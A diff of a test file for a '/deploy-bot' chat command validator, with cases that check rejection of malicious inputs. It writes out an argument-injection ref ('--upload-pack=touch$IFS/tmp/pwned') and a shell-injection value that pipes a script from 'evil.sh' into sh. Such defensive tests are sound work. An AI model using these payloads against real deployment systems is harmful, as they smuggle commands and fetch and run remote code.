@@ -338,13 +338,13 @@ describe("/deploy-bot commands", () => {
   it.each([
     [
       "an option-like ref",
-      "/deploy-bot deploy staging --upload-pack=touch${IFS}/tmp/pwned",
-      'ref "--upload-pack=touch${IFS}/tmp/pwned" contains a character that is not allowed (give a branch, tag or commit SHA)',
+      "/deploy-bot deploy staging --upload-pack=touch$IFS/tmp/pwned",
+      'ref "--upload-pack=touch$IFS/tmp/pwned" contains a character that is not allowed (give a branch, tag or commit SHA)',
     ],
     [
       "shell metacharacters",
-      "/deploy-bot deploy staging;curl${IFS}evil.sh|sh",
-      "\"staging;curl${IFS}evil.sh|sh\" is not a valid environment name (letters, digits, '.', '_', '-')",
+      "/deploy-bot deploy staging;curl$IFSevil.sh|sh",
+      "\"staging;curl$IFSevil.sh|sh\" is not a valid environment name (letters, digits, '.', '_', '-')",
     ],
     [
       "a huge comment",
